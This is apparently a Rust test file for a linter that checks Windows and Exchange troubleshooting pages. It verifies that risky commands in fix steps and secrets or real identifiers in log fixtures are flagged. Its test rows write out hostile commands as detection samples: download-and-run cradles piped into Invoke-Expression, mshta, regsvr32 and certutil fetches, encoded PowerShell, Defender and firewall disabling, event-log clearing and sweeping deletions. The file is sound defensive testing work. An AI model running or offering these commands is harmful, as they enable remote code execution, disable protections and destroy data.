//! What a page may tell its readers to run, and what evidence may hold: each row is a command or a line, and the faults
//! that it is told of.

use std::collections::BTreeSet;

use fixbook::files::Tree;
use fixbook::kb;

const BOOK: &str = "[book]\ntitle = \"Small\"\n\n[[shell]]\nid = \"powershell\"\ntitle = \"PowerShell\"\nquoting = \"powershell\"\n\n\
[[shell]]\nid = \"cmd\"\ntitle = \"Command Prompt\"\n\n[lint]\nnames = [\"contoso.com\"]\naccounts = [\"setup.admin\"]\n";

/// What the commands of a product do is data of its book.
const COMMANDS: &str = "- {run: [\"Add-MailboxPermission *fullaccess*\", \"New-TransportRule *redirect*\", New-ManagementRoleAssignment], \
does: grants, why: it gives rights}\n- {run: [UpdateConfigFiles.ps1, eseutil, setup], does: changes}\n";

fn codes(tree: &Tree) -> Vec<&'static str> {
    let (_, found) = kb::load(tree);
    let codes: BTreeSet<&'static str> = found.iter().map(|fault| fault.code.name).collect();
    codes.into_iter().collect()
}

fn tree() -> Tree {
    let mut tree = Tree::default();
    tree.insert("book.toml", BOOK);
    tree.insert("kb/products.yaml", "- {id: app, title: App}\n");
    tree.insert("kb/commands.yaml", COMMANDS);
    tree
}

/// A page without a fault of its own.
pub fn page(risk: &str, body: &str) -> String {
    format!(
        "---\ntitle: \"The trouble of today\"\nkind: guide\napplies_to: [app]\nrisk: {risk}\nsummary: \"It fails.\"\n\
         references: [{{title: \"Manual\", url: \"https://example.com/\"}}]\nlast_verified: \"2026-11-20\"\n---\n\n{body}"
    )
}

/// What is told of a page whose fix has one command.
fn of_command(shell: &str, command: &str) -> Vec<&'static str> {
    let mut tree = tree();
    let body = format!(
        "## Fix\n\n1. Run it:\n\n   > **Caution:** Look twice.\n\n   ```{shell}\n   {command}\n   ```\n\n## Verify\n\n1. Look at `app.log`.\n\n\
         ## Rollback\n\n1. Restore it.\n"
    );
    tree.insert("kb/app/page.md", page("medium", &body));
    codes(&tree)
}

#[test]
fn commands_that_harm_are_told() {
    let rows: &[(&str, &str, &str)] = &[
        ("download-and-run", "powershell", "Invoke-Expression -Command $text"),
        (
            "download-and-run",
            "powershell",
            "Invoke-WebRequest -Uri https://example.com/x.ps1 | Invoke-Expression",
        ),
        ("download-and-run", "powershell", "& ([ScriptBlock]::Create($text))"),
        (
            "download-and-run",
            "powershell",
            "(New-Object -TypeName Net.WebClient).DownloadString('https://example.com/x') | IEX",
        ),
        ("download-and-run", "cmd", "mshta.exe https://example.com/x.hta"),
        (
            "download-and-run",
            "cmd",
            "regsvr32.exe /s /n /u /i:https://example.com/x.sct scrobj.dll",
        ),
        (
            "download-and-run",
            "cmd",
            "C:\\Windows\\System32\\CertUtil.exe -urlcache -f https://example.com/x x.exe",
        ),
        (
            "download-and-run",
            "cmd",
            "bitsadmin.exe /transfer j https://example.com/x C:\\x",
        ),
        ("encoded-command", "cmd", "powershell.exe -enc SQBFAFgA"),
        ("encoded-command", "powershell", "& ('Get-' + 'Service')"),
        (
            "encoded-command",
            "powershell",
            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SQBFAFgA'))",
        ),
        ("encoded-command", "powershell", "In`vo`ke-Thing -Name x"),
        (
            "protection-off",
            "powershell",
            "Set-MpPreference -DisableRealtimeMonitoring $true",
        ),
        ("protection-off", "powershell", "Add-MpPreference -ExclusionPath 'C:\\'"),
        (
            "protection-off",
            "powershell",
            "Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope LocalMachine",
        ),
        (
            "protection-off",
            "powershell",
            "Set-NetFirewallProfile -Profile Domain -Enabled False",
        ),
        ("protection-off", "powershell", "Clear-EventLog -LogName Application"),
        (
            "protection-off",
            "cmd",
            "netsh.exe advfirewall set allprofiles state off",
        ),
        ("protection-off", "cmd", "wevtutil.exe cl Security"),
        ("protection-off", "cmd", "bcdedit.exe /set testsigning on"),
        (
            "protection-off",
            "cmd",
            "reg.exe add HKLM\\SOFTWARE\\Sample /v EnableLUA /t REG_DWORD /d 0 /f",
        ),
        (
            "secret-in-command",
            "powershell",
            "ConvertTo-SecureString -String 'Summer' -AsPlainText -Force",
        ),
        (
            "secret-in-command",
            "powershell",
            "Connect-Thing -Credential admin -Server x",
        ),
        ("secret-in-command", "cmd", "net.exe user helper Passw0rd1"),
        (
            "unguarded-destruction",
            "powershell",
            "Remove-Item -LiteralPath C:\\Old -Recurse",
        ),
        (
            "unguarded-destruction",
            "powershell",
            "Get-Mailbox -Database DB1 | Remove-Mailbox -Confirm:$false",
        ),
        (
            "unguarded-destruction",
            "powershell",
            "if ($true) { $x = Remove-ADObject -Identity $dn }",
        ),
        ("sweeping-destruction", "cmd", "rd /s /q D:\\"),
        ("sweeping-destruction", "cmd", "del /s C:\\Logs\\*.log"),
        (
            "sweeping-destruction",
            "powershell",
            "Remove-Item -Path C:\\Logs\\* -WhatIf",
        ),
        (
            "sweeping-destruction",
            "powershell",
            "Remove-Item -LiteralPath \"$folder\\old\" -WhatIf",
        ),
        (
            "grants-access",
            "cmd",
            "net.exe localgroup Administrators CONTOSO\\helper /add",
        ),
        ("grants-access", "cmd", "schtasks.exe /create /tn x /tr y"),
        (
            "grants-access",
            "powershell",
            "Add-MailboxPermission -Identity x -User y -AccessRights FullAccess",
        ),
        (
            "grants-access",
            "powershell",
            "New-TransportRule -Name x -RedirectMessageTo y",
        ),
        (
            "grants-access",
            "powershell",
            "New-ManagementRoleAssignment -Role x -User y",
        ),
        (
            "alias-in-command",
            "powershell",
            "Get-Service -Name x | ? { $_.Status }",
        ),
        ("alias-in-command", "powershell", "ls -Path C:\\Logs"),
        ("positional-argument", "powershell", "Set-Location C:\\Logs"),
        (
            "positional-argument",
            "powershell",
            "Get-Service -Name x | Restart-Service Name",
        ),
    ];
    let missed: Vec<_> = rows
        .iter()
        .filter(|(code, shell, command)| !of_command(shell, command).contains(code))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn commands_of_everyday_are_not_told() {
    let rows: &[(&str, &str)] = &[
        ("powershell", "Set-MpPreference -DisableRealtimeMonitoring $false"),
        ("powershell", "Get-Content C:\\Logs\\a.log -Tail 10"),
        (
            "powershell",
            "Get-ChildItem C:\\ | Sort-Object Length | Select-Object Name",
        ),
        (
            "powershell",
            "Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope Process",
        ),
        (
            "powershell",
            "Get-Service -Name MSExchange* | Where-Object { $_.Status -ne 'Running' } | Format-Table -Property Name, Status",
        ),
        (
            "powershell",
            "foreach ($name in 'a', 'b') { Start-Service -Name $name }",
        ),
        ("powershell", "New-Item -ItemType Directory -Path 'C:\\New'"),
        ("powershell", "Remove-Item -LiteralPath 'C:\\Old' -Recurse -WhatIf"),
        ("powershell", "Remove-PSSnapin -Name Sample"),
        ("powershell", "Set-ADObject -Identity x -Replace @{type = 1; sort = 2}"),
        (
            "powershell",
            "& \"$env:ExchangeInstallPath\\Bin\\UpdateConfigFiles.ps1\"",
        ),
        (
            "powershell",
            "(Start-Process -FilePath \"$env:windir\\a.exe\" -ArgumentList \"/s `\"$env:x\\a.dll`\"\" -Wait -PassThru).ExitCode",
        ),
        (
            "powershell",
            "(New-Object -TypeName System.Net.WebClient).DownloadData('http://crl.contoso.com/a.crl').Length",
        ),
        (
            "powershell",
            "Add-ADGroupMember -Identity 'Server Management' -Members 'setup.admin'",
        ),
        (
            "powershell",
            "Set-User -Identity x -PasswordNeverExpires $true -Password $secret",
        ),
        ("powershell", "Get-Credential | Export-Clixml -Path .\\a.xml"),
        (
            "powershell",
            "Invoke-Command -ComputerName EX1 -ScriptBlock { Get-Date }",
        ),
        (
            "powershell",
            "$log = Get-Content -LiteralPath C:\\Logs\\a.log; $log[0..9]",
        ),
        (
            "powershell",
            "Get-WinEvent -FilterHashtable @{LogName='Application'; Id=1003,4999} | Format-List -Property Message",
        ),
        (
            "powershell",
            "try { Get-Service -Name x } catch { $_.Exception.Message }",
        ),
        ("cmd", "net.exe use \\\\EX1\\share * /user:setup.admin"),
        ("cmd", "net.exe stop MSExchangeIS"),
        ("cmd", "reg.exe export HKLM\\SOFTWARE\\Sample %TEMP%\\sample.reg"),
        ("cmd", "dir /s C:\\Logs\\*.log | findstr.exe /i error"),
        ("cmd", "eseutil.exe /mh \"<EdbFilePath>\""),
        ("cmd", "netsh.exe http show sslcert ipport=0.0.0.0:444"),
        ("cmd", ".\\setup.exe /Mode:Upgrade"),
    ];
    let told: Vec<_> = rows
        .iter()
        .map(|(shell, command)| (command, of_command(shell, command)))
        .filter(|(_, codes)| !codes.is_empty())
        .collect();
    assert!(told.is_empty(), "{told:#?}");
}

/// What is told of a fixture of one line.
fn of_line(line: &str) -> Vec<&'static str> {
    let mut tree = tree();
    tree.insert("tests/fixtures/_good/a.log", format!("begin\n{line}\nend\n"));
    codes(&tree)
}

#[test]
fn what_came_from_a_real_server_is_told() {
    let rows = [
        ("secret", "-----BEGIN RSA PRIVATE KEY-----"),
        ("secret", "Server=x;User Id=sa;Password=Summer2026!;"),
        ("secret", "Authorization: Bearer abcdefghijklmnop"),
        (
            "secret",
            "<machineKey validationKey=\"0123456789ABCDEF0123456789ABCDEF01234567\" />",
        ),
        ("real-mail-address", "User: jane.doe@company.de"),
        ("real-mail-address", "<a1b2@mail.company.com>"),
        ("real-address", "from [52.96.1.2]"),
        ("real-address", "card 00-1A-2B-3C-4D-5E"),
        ("private-address", "10.1.2.3:25"),
        ("real-sid", "S-1-5-21-3623811015-3361044348-30300820-1013"),
        ("real-name", "connected to dc01.company.local."),
        ("real-name", "CN=EX1,OU=Servers,DC=company,DC=de"),
        ("real-profile", "C:\\Users\\jdoe\\AppData\\Local"),
        ("real-profile", "\"C:\\\\Users\\\\jane doe\\\\AppData\""),
    ];
    let missed: Vec<_> = rows
        .iter()
        .filter(|(code, line)| of_line(line) != [*code])
        .map(|row| (row, of_line(row.1)))
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn what_every_server_prints_is_not_told() {
    let rows = [
        "setup.admin@contoso.com on EX1.contoso.com, 192.0.2.7, 2001:db8::7, 127.0.0.1",
        "S-1-5-21-1111111111-2222222222-3333333333-1105 S-1-5-18 S-1-5-32-544",
        "Version 15.2.858.5 (Build 14.2.247.5), Microsoft.Exchange.Net.dll, ASP.NET, System.IO",
        "C:\\Users\\setup.admin\\AppData C:\\Users\\Public C:\\Users\\Administrator.CONTOSO\\x %USERPROFILE%",
        "[05/04/2023 19:08:02.0119] [0] 10:11:12 Ending at 00:00:06",
        "The password: must be changed. Password=******** pwd=<secret> -Password $password",
        "System.Management.Automation.PSCredential Password=System.Security.SecureString",
        "CN=Users,DC=contoso,DC=com and CN=x,DC=<domain>",
    ];
    let told: Vec<_> = rows
        .iter()
        .map(|line| (line, of_line(line)))
        .filter(|(_, codes)| !codes.is_empty())
        .collect();
    assert!(told.is_empty(), "{told:#?}");
}

#[test]
fn a_fixture_in_utf_16_is_read() {
    let mut tree = tree();
    let text = "\u{FEFF}begin\r\nUser: jane.doe@company.de\r\n";
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    tree.insert("tests/fixtures/_good/a.reg", bytes);
    assert_eq!(codes(&tree), ["real-mail-address"]);
}
